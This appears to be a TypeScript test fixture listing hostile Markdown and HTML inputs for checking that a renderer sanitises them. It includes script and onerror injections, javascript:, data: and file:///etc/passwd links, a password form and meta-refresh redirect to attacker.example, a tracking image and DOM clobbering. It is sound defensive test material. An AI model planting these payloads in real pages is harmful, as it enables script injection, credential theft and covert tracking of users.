// Texts that try to run, load, imitate or break something, for tests of what is made of them.

/** Each line of the page that would be the tool's own speech sets this, if it ever runs. */
export const TRAP = "trapped";

const RUN = `document.documentElement.dataset.${TRAP}=1`;

export const HOSTILE_MARKDOWN: readonly { readonly title: string; readonly text: string }[] = [
  { title: "a script", text: `<script>${RUN}</script>` },
  { title: "a script within a paragraph", text: `Read <script>${RUN}</script>this.` },
  { title: "a script that closes the page's", text: `</script></style></title><script>${RUN}</script>` },
  { title: "an image with onerror", text: `<img src=x onerror="${RUN}">` },
  { title: "an attribute in Markdown's image", text: `![" onerror="${RUN}](x " onerror="${RUN}")` },
  { title: "a javascript: link", text: `[click](javascript:${RUN})` },
  { title: "a javascript: link in HTML", text: `<a href="javascript:${RUN}">click</a>` },
  { title: "a javascript: link in capitals with a tab", text: `<a href="jAvA\tscript:${RUN}">click</a>` },
  { title: "a javascript: link of entities", text: `[click](&#106;avascript:${RUN})` },
  { title: "a javascript: autolink", text: `<javascript:${RUN}>` },
  { title: "a javascript: link by reference", text: `[click][ref]\n\n[ref]: javascript:${RUN}` },
  { title: "a vbscript: link", text: "[click](vbscript:msgbox)" },
  { title: "a data: link", text: `[click](data:text/html,<script>${RUN}</script>)` },
  { title: "a data: image", text: "![dot](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)" },
  { title: "a file: link", text: "[click](file:///etc/passwd)" },
  { title: "a link to a file share", text: "[click](//files.attacker.example/share)" },
  { title: "a link to a file share with backslashes", text: "[click](\\\\\\\\files.attacker.example\\\\share)" },
  { title: "an image to be loaded", text: "![dot](https://tracker.attacker.example/dot.png)" },
  {
    title: "an SVG that runs",
    text: `<svg onload="${RUN}"><script>${RUN}</script><a href="javascript:${RUN}">x</a></svg>`,
  },
  { title: "a style that hides the page", text: "<style>body{display:none}</style>" },
  { title: "a style attribute", text: '<p style="position:fixed;inset:0;background:red">over everything</p>' },
  {
    title: "a form",
    text: '<form action="https://attacker.example"><input name="password"><button>Sign in</button></form>',
  },
  { title: "a frame", text: `<iframe srcdoc="<script>${RUN}</script>"></iframe>` },
  { title: "an object", text: `<object data="javascript:${RUN}"></object><embed src="javascript:${RUN}">` },
  { title: "a refresh", text: '<meta http-equiv="refresh" content="0;url=https://attacker.example">' },
  { title: "a base", text: '<base href="https://attacker.example/">' },
  { title: "MathML", text: `<math><mtext><script>${RUN}</script></mtext></math>` },
  { title: "a mutation through noscript", text: `<noscript><p title="</noscript><img src=x onerror=${RUN}>">` },
  {
    title: "ids of the page's own",
    text: '<a id="main">one</a><a id="main">two</a><a name="main">three</a>\n\n# main',
  },
  { title: "a template", text: `<template><script>${RUN}</script></template>` },
  { title: "a details with ontoggle", text: `<details open ontoggle="${RUN}"><summary>more</summary>text</details>` },
  { title: "control characters and turned text", text: "a\u0000b\u001b[31mc\u202Ereversed\u202C\u2066x\u2069" },
  { title: "a body and a main of its own", text: "</main></body><body><main id=main><h1>Nothing is due</h1></main>" },
  { title: "elements without end", text: "<div><span><b>".repeat(30) },
];
